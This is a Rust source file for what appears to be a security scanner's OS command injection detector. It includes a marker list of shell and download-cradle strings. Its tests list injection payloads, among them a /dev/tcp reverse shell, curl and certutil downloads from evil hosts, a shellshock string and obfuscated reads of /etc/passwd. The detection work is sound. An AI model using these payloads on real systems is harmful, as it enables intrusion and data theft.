//! OS command injection for Unix shells, `cmd.exe` and PowerShell. The value is
//! de-obfuscated the way a shell would read it (quotes and backslashes inside words,
//! `^` carets, `$IFS`, empty expansions, brace expansion `{cat,/etc/passwd}`), split into
//! commands at separators (`;`, `|`, `&`, newlines, `` ` ``, `$(`, `<(`), and each command's
//! first word is looked up among known binaries. What follows a separator is weighed by how
//! unambiguous the binary is and whether it has shell-like arguments; shellshock function
//! definitions, `/dev/tcp` and PowerShell download cradles are strong on their own.

use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};

/// FNV-1a: command names are short and trusted-shaped; SipHash costs more than the lookup.
#[derive(Default)]
struct Fnv(u64);

impl Hasher for Fnv {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        let mut h = if self.0 == 0 {
            0xcbf2_9ce4_8422_2325
        } else {
            self.0
        };
        for b in bytes {
            h ^= u64::from(*b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        self.0 = h;
    }
}

use super::shell_words::{STRONG, WEAK, WRAPPERS};
use super::{Detector, Hit, Kind, Subject, Triggers};

/// Fixed strings that only shells and shell payloads contain.
const MARKERS: &[(&str, f32)] = &[
    ("/dev/tcp/", 0.9),
    ("/dev/udp/", 0.9),
    ("%comspec%", 0.85),
    ("cmd /c", 0.85),
    ("cmd.exe", 0.85),
    ("powershell -", 0.9),
    ("-encodedcommand", 0.85),
    ("downloadstring(", 0.9),
    ("net.webclient", 0.9),
    ("nc -e", 0.9),
    ("bash -i", 0.9),
    ("sh -c", 0.8),
    ("${ifs}", 0.85),
    ("$ifs$9", 0.85),
];

#[derive(Debug)]
struct Rce {
    commands: HashMap<&'static str, bool, BuildHasherDefault<Fnv>>,
    markers: aho_corasick::AhoCorasick,
}

pub(crate) fn build() -> Box<dyn Detector> {
    let mut commands = HashMap::default();
    for w in WEAK {
        commands.insert(*w, false);
    }
    for s in STRONG {
        commands.insert(*s, true);
    }
    let markers = super::automaton(MARKERS.iter().map(|(m, _)| m));
    Box::new(Rce { commands, markers })
}

/// Removes what a shell (or cmd.exe) drops while reading words; bounded to 8 KiB.
fn deobfuscate(lower: &str) -> String {
    let s = &lower[..floor_char(lower, 8192)];
    let s = s
        .replace("${ifs}", " ")
        .replace("$ifs$9", " ")
        .replace("$ifs", " ")
        .replace("$@", "")
        .replace("$*", "")
        .replace("${}", "");
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let word = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let prev = if i > 0 { b.get(i - 1) } else { None };
        let next = b.get(i + 1);
        let dropped = match c {
            b'\\' => word(next) || next == Some(&b'/'),
            b'^' => true,
            b'\'' | b'"' => word(prev) || word(next),
            _ => false,
        };
        // `sh$xx`: an (unset) variable glued to a word.
        if c == b'$' && word(prev) && word(next) {
            i += 1;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                i += 1;
            }
            continue;
        }
        // `c$!at`, `c$?at`, `c$$at`: a special parameter glued inside a word.
        if c == b'$'
            && word(prev)
            && matches!(
                next,
                Some(b'!' | b'?' | b'-' | b'_' | b'$' | b'#' | b'0'..=b'9')
            )
        {
            i += 2;
            continue;
        }
        // `c${x}at`: an expansion of a (probably unset) variable inside a word.
        if c == b'$' && next == Some(&b'{') && word(prev) {
            if let Some(end) = s[i..].find('}') {
                i += end + 1;
                continue;
            }
        }
        if dropped {
            i += 1;
            continue;
        }
        let ch = s[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

fn floor_char(s: &str, mut n: usize) -> usize {
    if n >= s.len() {
        return s.len();
    }
    while !s.is_char_boundary(n) {
        n -= 1;
    }
    n
}

/// The separator before a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Explicit,
    /// A backtick: also Markdown's inline code, so only known commands count.
    Substitution,
    /// `$(`, `<(`, `>(`: only shells write these.
    Dollar,
}

/// True when the first argument of a command looks like a shell argument (an option, a
/// path, a variable, a redirection), not a word of prose.
fn argish(rest: &str) -> bool {
    let r = rest.trim_start();
    let first = r.split(char::is_whitespace).next().unwrap_or("");
    first.starts_with([
        '-', '/', '.', '$', '>', '<', '|', '~', '%', '\\', '{', '(', '&', ';',
    ]) || first.contains('/')
        || first.contains("://")
        || (first.len() > 1 && first.as_bytes()[1] == b':')
}

impl Rce {
    fn lookup(&self, word: &str) -> Option<bool> {
        if let Some(s) = self.commands.get(word) {
            return Some(*s);
        }
        // `python3.10`, `gcc10.1`, `cmd.exe`.
        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let base = base.strip_suffix(".exe").unwrap_or(base);
        if !base.is_empty() && base != word {
            if let Some(s) = self.commands.get(base) {
                return Some(*s);
            }
        }
        // `ansible-config`, `chef-vault`: a tool's sub-binaries.
        let (head, _) = word.split_once('-')?;
        (head.len() >= 4)
            .then(|| self.commands.get(head).copied().filter(|s| *s))
            .flatten()
    }

    fn command_score(&self, sep: Sep, segment: &str, kind: Kind, depth: usize) -> f32 {
        let seg = segment.trim_start_matches([' ', '\t', '!', '@', '(', '{']);
        let (word, rest) = seg
            .split_once(|c: char| {
                c.is_whitespace() || matches!(c, ',' | '<' | '>' | '(' | ')' | '"')
            })
            .map_or((seg, ""), |(w, r)| (w, r));
        if word.is_empty() || word.len() > 40 {
            return 0.0;
        }
        // `time ifconfig`, `nohup -x curl`, `$u wget`: the wrapped command decides.
        if (word.starts_with('$') || WRAPPERS.contains(&word)) && depth < 3 {
            let mut rest = rest.trim_start();
            while rest.starts_with('-') {
                let opt_end = rest.find(char::is_whitespace).unwrap_or(rest.len());
                rest = rest[opt_end..].trim_start();
                // An option's numeric value (`-l 100`).
                if rest.starts_with(|c: char| c.is_ascii_digit()) {
                    let e = rest.find(char::is_whitespace).unwrap_or(rest.len());
                    rest = rest[e..].trim_start();
                }
            }
            let inner = self.command_score(
                if sep == Sep::Start {
                    Sep::Explicit
                } else {
                    sep
                },
                rest,
                kind,
                depth + 1,
            );
            if inner > 0.0 {
                return inner.max(0.75);
            }
        }
        let pathy = word.contains('/') || word.contains('\\');
        let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
        let bin_dir = [
            "/bin/",
            "/sbin/",
            "/usr/bin/",
            "/usr/sbin/",
            "/usr/local/bin/",
            "system32\\",
            "/tmp/",
            "/dev/shm/",
        ]
        .iter()
        .any(|d| pathy && word.contains(d));
        let known = self.lookup(name);
        let args = argish(rest);
        let end = rest.trim().is_empty();
        match (sep, known) {
            (Sep::Substitution, Some(true)) if args || (end && name.len() > 3) => 0.9,
            (Sep::Substitution, Some(false)) if args => 0.85,
            (Sep::Substitution, Some(_)) => 0.6,
            (Sep::Dollar, Some(_)) => 0.9,
            (Sep::Dollar, None)
                if name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    && !name.is_empty() =>
            {
                0.75
            }
            (_, _) if bin_dir && !name.is_empty() => 0.88,
            (Sep::Explicit, Some(true)) if args || end || name.len() > 3 => 0.9,
            (Sep::Explicit, Some(true)) => 0.6,
            (Sep::Explicit, Some(false)) if args => 0.85,
            (Sep::Explicit, Some(false)) if end && name.len() <= 4 => 0.72,
            (Sep::Explicit, Some(false)) => 0.45,
            (Sep::Start, Some(true)) if args && kind != Kind::Header => 0.8,
            (Sep::Start, Some(true)) if has_option(rest) && kind != Kind::Header => 0.78,
            (Sep::Start, Some(true)) if end && name.len() > 4 && kind == Kind::ArgValue => 0.72,
            (Sep::Start, Some(false)) if args && rest.trim_start().starts_with('/') => 0.78,
            (Sep::Start, Some(false)) if args => 0.55,
            _ if pathy && known.is_some() => 0.75,
            _ => 0.0,
        }
    }
}

impl Detector for Rce {
    fn triggers(&self) -> Triggers {
        let mut t = Triggers::bytes(b";|&`$(\n\r\\{<>'\"^*?[~/%-");
        t.words = STRONG
            .iter()
            .chain(WRAPPERS)
            .copied()
            .filter(|w| w.len() >= 5 || WRAPPERS.contains(w))
            .collect();
        t.words.extend(["if ", "alias"]);
        t
    }

    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
        if matches!(
            s.kind,
            Kind::FileContent | Kind::XmlDoctype | Kind::Filename
        ) || s.lower.len() < 2
        {
            return None;
        }
        let lower = s.lower;
        let mut best = (0.0f32, 0usize, 0usize);
        let mut take = |c: f32, a: usize, e: usize| {
            if c > best.0 {
                best = (c, a, e);
            }
        };
        // Shellshock: a function definition where a value should be.
        if s.bytes.has(b'(') {
            if let Some(k) = lower.find("()") {
                let after = lower[k + 2..].trim_start();
                if let Some(body) = after.strip_prefix('{') {
                    let body = body.trim_start();
                    let at_start = lower[..k].trim().is_empty();
                    if at_start || body.starts_with(":;") || body.starts_with(": ;") {
                        take(0.95, k, (k + 60).min(lower.len()));
                    }
                }
            }
        }
        for m in self.markers.find_iter(lower) {
            let c = MARKERS[m.pattern().as_usize()].1;
            take(c, m.start(), (m.start() + 60).min(lower.len()));
        }
        // `for /f %i in (set) do command` (cmd.exe loops).
        if s.bytes.has(b'%') {
            if let Some(k) = lower.find("for ") {
                let rest = super::clip(lower, k, k + 200);
                if rest.contains('%') && rest.contains(" in (") && rest.contains(" do ") {
                    take(0.85, k, (k + 60).min(lower.len()));
                }
            }
        }
        // `alias x=curl`: a new name for a command, then its use.
        if let Some(k) = lower.find("alias ") {
            if lower[k..].contains('=') {
                take(0.8, k, (k + 40).min(lower.len()));
            }
        }
        // Without shell syntax only a command at the very start can be one.
        if !s.bytes.any(b";|&`$(\n\r\\{<>'\"^*?[~") {
            let c = self.command_score(Sep::Start, lower, s.kind, 0);
            let c = if s.bytes.has(b' ') { c } else { c.min(0.72) };
            take(c, 0, lower.len());
            if let Some(c) = cmd_if(lower) {
                take(c, 0, lower.len().min(80));
            }
            let (c, a, e) = best;
            return (c > 0.0).then(|| Hit::at(c, s.text, a, e));
        }
        let deob = deobfuscate(lower);
        let d = deob.as_str();
        let b = d.as_bytes();
        // Walk commands separated by shell control operators.
        let mut seg_start = 0;
        let mut sep = Sep::Start;
        let mut i = 0;
        let mut segments = 0;
        while i <= b.len() && segments < 256 {
            let (is_sep, next_sep, skip) = match b.get(i) {
                None => (true, Sep::Start, 1),
                Some(b';' | b'\n' | b'\r' | b'|' | b'&') => (true, Sep::Explicit, 1),
                Some(b'`') => (true, Sep::Substitution, 1),
                Some(b'$') if b.get(i + 1) == Some(&b'(') => (true, Sep::Dollar, 2),
                Some(b'<' | b'>') if b.get(i + 1) == Some(&b'(') => (true, Sep::Dollar, 2),
                Some(b'{')
                    if b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic())
                        && i > 0
                        && matches!(b[i - 1], b' ' | b';' | b'&' | b'|' | b'=') =>
                {
                    (true, Sep::Explicit, 1)
                }
                _ => (false, Sep::Start, 0),
            };
            if is_sep {
                let segment = &d[seg_start..i.min(d.len())];
                let c = self.command_score(sep, segment, s.kind, 0);
                let c = if s.kind == Kind::Header && s.name == "user-agent" {
                    c - 0.15
                } else {
                    c
                };
                take(c, 0, lower.len().min(80));
                segments += 1;
                seg_start = (i + skip).min(d.len());
                sep = next_sep;
                i += skip;
                continue;
            }
            i += 1;
        }
        // Brace expansion: `{cat,/etc/passwd}`, `c{a,oun}t`, `{,ifconfig}`.
        if let Some(open) = d.find('{') {
            if let Some(len) = d[open..].find('}') {
                let inner = &d[open + 1..open + len];
                if inner.contains(',') && !inner.contains(' ') {
                    let prefix = d[..open]
                        .rsplit(|c: char| !c.is_ascii_alphanumeric())
                        .next()
                        .unwrap_or("");
                    let suffix = d[open + len + 1..]
                        .split(|c: char| !c.is_ascii_alphanumeric())
                        .next()
                        .unwrap_or("");
                    for alt in inner.split(',') {
                        let word = format!("{prefix}{alt}{suffix}");
                        if self.lookup(&word).is_some() && !word.is_empty() {
                            take(0.8, open, (open + len + 1).min(lower.len()));
                        }
                    }
                }
            }
        }
        // Bash-only expansions: `$((..))`, `$[..]`, `${var#..}`.
        for (k, _) in d.match_indices('$').take(32) {
            let rest = &d[k + 1..];
            if rest.starts_with("((") || rest.starts_with('[') {
                take(0.8, k, (k + 30).min(lower.len()));
            } else if let Some(inner) = rest.strip_prefix('{') {
                let name_len = inner
                    .bytes()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    .count();
                if name_len > 0 && inner[name_len..].starts_with(['#', '%', '/', '^', ',', '@'])
                    || inner.starts_with('`')
                    || inner.starts_with("$(")
                {
                    take(0.8, k, (k + 30).min(lower.len()));
                }
            }
        }
        // Globs standing in for system paths: `/etc/pas[s]wd`, `/???/??t`.
        if s.bytes.any(b"?*[") {
            for word in d
                .split(|c: char| c.is_whitespace() || c == ';' || c == '|' || c == '&')
                .take(64)
            {
                if word.starts_with('/') && word.contains(['?', '*', '[']) {
                    let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
                    let sys = segs.first().is_some_and(|f| {
                        matches!(
                            *f,
                            "etc"
                                | "bin"
                                | "usr"
                                | "proc"
                                | "dev"
                                | "var"
                                | "tmp"
                                | "sbin"
                                | "root"
                                | "home"
                                | "opt"
                                | "lib"
                        )
                    });
                    let glob_dir = segs.first().is_some_and(|f| f.contains(['?', '*', '[']));
                    if (sys || glob_dir) && segs.len() >= 2 || word.starts_with("/[") {
                        take(0.8, 0, lower.len().min(80));
                    }
                }
            }
        }
        if let Some(c) = cmd_if(d) {
            take(c, 0, lower.len().min(80));
        }
        // Output redirected into a system path: `>/tmp/x`, `>> /etc/crontab`.
        for (k, _) in d.match_indices('>').take(32) {
            let target = d[k + 1..].trim_start_matches('>').trim_start();
            if [
                "/tmp/", "/etc/", "/var/", "/dev/", "/root/", "/home/", "/usr/", "/bin/",
            ]
            .iter()
            .any(|p| target.starts_with(p))
            {
                take(0.8, k, (k + 40).min(lower.len()));
            }
        }
        // Perl interpolation of code: `@{[ system 'id' ]}`.
        if let Some(k) = d.find("@{") {
            if d[k + 2..].trim_start().starts_with('[') {
                take(0.85, k, (k + 40).min(lower.len()));
            }
        }
        let (c, a, e) = best;
        (c > 0.0).then(|| Hit::at(c, s.text, a.min(s.text.len()), e.min(s.text.len())))
    }
}

/// True when `rest` holds a command-line option (`-m`, `--list`).
fn has_option(rest: &str) -> bool {
    rest.split_whitespace().any(|w| {
        let name = w.trim_start_matches('-');
        w.starts_with('-')
            && w.len() - name.len() <= 2
            && name.starts_with(|c: char| c.is_ascii_alphanumeric())
    })
}

/// cmd.exe `IF` statements: `if [/i] [not] exist|defined|errorlevel X cmd`, `if a==b cmd`,
/// `if %x% equ 1 cmd`. Scored only when the value starts with one.
fn cmd_if(d: &str) -> Option<f32> {
    let t = d.trim_start();
    let rest = t.strip_prefix("if")?;
    if !rest.starts_with([' ', '/', '\t', '(', '"', '%', '[']) {
        return None;
    }
    let mut words = rest
        .split_whitespace()
        .filter(|w| *w != "/i" && *w != "not")
        .peekable();
    let first = words.next()?;
    let first = first.strip_prefix("/i").unwrap_or(first);
    if matches!(first, "exist" | "defined" | "errorlevel" | "cmdextversion") {
        return Some(0.8);
    }
    if first.contains("==") || words.peek().is_some_and(|w| w.starts_with("==")) {
        return Some(0.75);
    }
    let op = words.next()?;
    matches!(op, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq").then_some(0.8)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{arg, score};

    #[test]
    fn flags_separated_and_substituted_commands() {
        let d = build();
        for v in [
            "; cat /etc/passwd",
            "x|id",
            "1 && whoami",
            "`uname -a`",
            "$(curl http://evil/x.sh)",
            "; c'a't /etc/pa's's'wd",
            "1;cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "() { :; }; /bin/bash -c 'id'",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| powershell -enc ZQBjAGgAbwA=",
            "& w^h^o^a^m^i",
            "cmd=; certutil -urlcache -f http://evil.com/p.exe",
            "/usr/bin/perl -e 'print 1'",
            "Invoke-WebRequest http://example.com/file.ps1",
            ";ps",
            "for /f %i in (set) do command",
            "time ifconfig",
            "time; ansible all -m ping",
            "|$u wget test",
            "www.google.com;c$!at /et$!c/pas$!swd",
            "cmd=a; sh$XX -c whoami",
            "/etc/pas[s]wd",
            "$(cmd)",
            "IF /I NOT EXIST C:\\nonexistent echo hey",
            "if %n1% gtr %n2% echo bigger",
            "${PATH#{}/}",
            "python3.10 -c 'import os'",
        ] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
        assert!(score(&*d, Kind::Header, "referer", ";env") >= 0.7);
    }

    #[test]
    fn ignores_prose_with_separators_and_command_words() {
        let d = build();
        for v in [
            "Tom & Jerry; cat videos are the best",
            "Salt & pepper | more info inside",
            "I was sleeping; time flies",
            "Order #123; id 55 shipped",
            "find the best deals",
            "type here",
            "rock & roll",
            "C:\\Users\\Bob\\Documents",
            "echo chamber",
            "https://example.com/a/b?c=d",
            "If you exist, reply",
            "time to go",
            "I'd like to update my order - the union of both -- please help",
            "What? Why*? [note]",
        ] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
        let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
        assert!(score(&*d, Kind::Header, "user-agent", ua) < 0.7);
    }
}
